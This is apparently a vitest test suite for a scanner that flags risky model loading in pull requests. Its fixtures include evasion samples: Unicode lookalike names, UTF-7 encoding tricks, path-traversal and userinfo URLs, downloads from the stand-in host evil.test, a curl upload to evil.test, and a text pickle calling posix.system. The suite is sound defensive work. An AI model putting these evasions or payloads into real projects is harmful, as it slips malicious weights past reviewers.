import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Change, contentOf } from '../../src/model/index.ts'
import { added, startReplay } from './replay.ts'

/** Weights that a reviewer is not to see: written so that the program reads another thing than the reader. */
let replay: Awaited<ReturnType<typeof startReplay>>
let good: string
beforeAll(async () => {
  replay = await startReplay()
  replay.publish({ id: 'evil/pickle' }, { 'pytorch_model.bin': 'PK\x03\x04' })
  good = replay.publish({ id: 'acme/good' }, { 'model.safetensors': 'weights' })
})
afterAll(() => replay.close())

const loads = 'from transformers import AutoModel\nAutoModel.from_pretrained("evil/pickle")\n'
const seen = (path: string, text: string) => replay.caught([added(path, text)])

describe('a file whose name is in another case, which no interpreter minds', () => {
  it.each([
    ['app.PY', loads],
    ['app.pyw', loads],
    ['run.SH', 'vllm serve evil/pickle\n'],
    ['run.fish', 'vllm serve evil/pickle\n'],
    ['DOCKERFILE', 'FROM x\nRUN hf download evil/pickle\n'],
    ['Dockerfile_gpu', 'FROM x\nRUN hf download evil/pickle\n'],
    ['MAKEFILE', 'x:\n\thf download evil/pickle\n'],
    ['values.YAML', 'model_name_or_path: evil/pickle\n'],
    ['config.JSON', '{"model_name_or_path":"evil/pickle"}'],
    ['app.JS', 'import {pipeline} from "@huggingface/transformers"\npipeline("x", "evil/pickle")\n'],
  ])('%s', async (path, text) => {
    expect(await seen(path, text)).toContain('warning: model-unpinned/mutable')
  })
})

describe('Python that is not what it looks like', () => {
  it.each([
    ['names in full width', loads.replace('from_pretrained', 'ｆｒｏｍ＿ｐｒｅｔｒａｉｎｅｄ')],
    ['names in a mathematical alphabet', loads.replaceAll('AutoModel', '𝐀𝐮𝐭𝐨𝐌𝐨𝐝𝐞𝐥')],
  ])('%s', async (_what, text) => {
    expect(await seen('app.py', text)).toContain('warning: model-unpinned/mutable')
  })

  it.each([
    ['UTF-7', '# coding: utf-7\n#+AAo-AutoModel.from_+AHA-retrained(+ACI-evil/pickle+ACI-)\n'],
    ['escapes', '#!/usr/bin/env python\n# -*- coding: unicode_escape -*-\n#\\u000aAutoModel.load("x")\n'],
    ['an encoding of the author’s own', '# vim: set fileencoding=evil :\npass\n'],
  ])('%s', async (_what, text) => {
    expect(await seen('app.py', text)).toEqual(['error: could-not-check/unreadable'])
  })

  it.each([
    '# -*- coding: utf-8 -*-\nx = "ｆｕｌｌ　ｗｉｄｔｈ"\n',
    '# coding: latin-1\n',
    '#!/usr/bin/python\n# vim: set fileencoding=iso-8859-15 :\n',
    '# -*- coding: utf-8-unix -*-\n# cp1252, gb18030 and euc_kr\n',
    '# coding: gb18030\n',
    'import codecs\nimport os\n# coding: utf-7, on the third line, says nothing\n',
  ])('nothing about %j', async text => {
    expect(await seen('app.py', text)).toEqual([])
  })
})

describe('an address that leads elsewhere', () => {
  const get = (address: string) => `import requests\nrequests.get("${address}")\n`
  it.each([
    'HTTPS://HuggingFace.co/evil/pickle/resolve/main/pytorch_model.bin',
    'https://huggingface.co//evil/pickle/resolve/main/pytorch_model.bin',
    'https://huggingface.co/acme/good/resolve/main/%2e%2e/../../../evil/pickle/resolve/main/pytorch_model.bin',
  ])('%s', async address => {
    expect(await seen('app.py', get(address))).toEqual([
      'warning: model-format/selected',
      'warning: model-unpinned/mutable',
    ])
  })

  it('with the commit of an honest model before the steps upwards', async () => {
    const address = `https://huggingface.co/acme/good/resolve/${good}/../../../../evil/pickle/resolve/main/pytorch_model.bin`
    expect(await seen('app.py', get(address))).toContain('warning: model-unpinned/mutable')
    const honest = `https://huggingface.co/acme/good/resolve/${good}/model.safetensors`
    expect(await seen('app.py', get(honest))).toEqual([])
  })
})

describe('a download under another name', () => {
  const moving = 'warning: model-unpinned/mutable'
  it.each([
    ['run.sh', 'curl -L -o model.gguf https://evil.test/get?id=1\n'],
    ['run.sh', 'curl -sLo "$HOME/model.gguf" https://evil.test/get\n'],
    ['run.sh', 'curl -L https://evil.test/get > model.gguf\n'],
    ['run.sh', 'wget -qO model.safetensors https://evil.test/get\n'],
    ['run.sh', 'curl -L https://huggingface.co/evil/pickle/resolve/main/photo.png -o model.gguf\n'],
    ['Dockerfile', 'FROM x\nADD https://evil.test/get /models/model.gguf\n'],
    ['app.py', 'from urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", "model.safetensors")\n'],
    [
      'app.py',
      'import os\nfrom urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", os.path.join(here, "model.ckpt"))\n',
    ],
  ])('%s: %s', async (path, text) => {
    expect(await seen(path, text)).toContain(moving)
  })

  it.each([
    ['run.sh', 'curl -L -o data.json https://evil.test/get\nwget -O a.zip https://evil.test/get\n'],
    ['run.sh', 'curl -L https://huggingface.co/evil/pickle/resolve/main/photo.png -o photo.png\n'],
    ['run.sh', 'curl -F model=@model.gguf https://evil.test/upload\n'],
    ['app.py', 'from urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", "rows.csv")\n'],
  ])('nothing about %s: %s', async (path, text) => {
    expect(await seen(path, text)).toEqual([])
  })
})

describe('a name in escapes', () => {
  it.each([
    'import requests\nrequests.get("https://huggingface.co/%65vil/pickle/%72esolve/main/pytorch_model.bin")\n',
    'import requests\nrequests.get("https://huggingface.co/api/models/evil/pickle/resolve/main/pytorch_model.bin")\n',
    'import requests\nrequests.get("https://huggingface.co/api/resolve-cache/models/evil/pickle/main/pytorch_model.bin")\n',
    'from transformers import AutoModel\nAutoModel.from_pretrained("\\145vil/pickle")\n',
    'from transformers import AutoModel\nAutoModel.from_pretrained("\\U00000065vil/pickle")\n',
  ])('%s', async text => {
    expect(await seen('app.py', text)).toContain('warning: model-unpinned/mutable')
  })

  it('with the hub’s name where a host has its users', async () => {
    const at = `https://evil.test\\\\@huggingface.co/acme/good/resolve/${good}/model.safetensors`
    expect(await seen('app.py', get(at))).toEqual(['warning: model-unpinned/mutable'])
  })

  it('in a store of the hub that no model of the name has to do with', async () => {
    replay.publish({ id: 'evil/store' }, { 'model.safetensors': 'w' })
    expect(await seen('app.py', 'open("hf://buckets/evil/store/model.ckpt")\n')).toEqual([
      'warning: model-format/executes',
    ])
  })
})

const get = (address: string) => `import requests\nrequests.get("${address}")\n`

describe('weights that the pull request itself commits', () => {
  const blob = (oid: string, bytes: Iterable<number>) => contentOf('100644', oid.repeat(40), Uint8Array.from(bytes))
  const pickle = [0x80, 4, 0x95, 0, 0, 0]
  const file = (path: string, head: Change['head'], base: Change['head'] = null): Change[] => [
    { path, head, mergeBase: base, baseTip: base, commentable: null },
  ]
  const executes = ['warning: model-format/executes']

  it('a pickle, in binary or as text', async () => {
    expect(await replay.caught(file('model.pkl', blob('a', pickle)))).toEqual(executes)
    expect(await replay.caught(file('model.PT', blob('a', pickle)))).toEqual(executes)
    const text = new TextEncoder().encode("cposix\nsystem\n(S'id'\ntR.")
    expect(await replay.caught(file('model.pkl', blob('a', text)))).toEqual(executes)
  })

  it('another pickle under the same name', async () => {
    expect(await replay.caught(file('model.pkl', blob('b', pickle), blob('a', pickle)))).toEqual(executes)
    expect(await replay.caught(file('model.pkl', blob('a', pickle), blob('a', pickle)))).toEqual([])
  })

  it('nothing about a safe format', async () => {
    const weights = [8, 0, 0, 0, 0, 0, 0, 0, 0x7b]
    expect(await replay.caught(file('model.safetensors', blob('b', weights), blob('a', weights)))).toEqual([])
  })
})
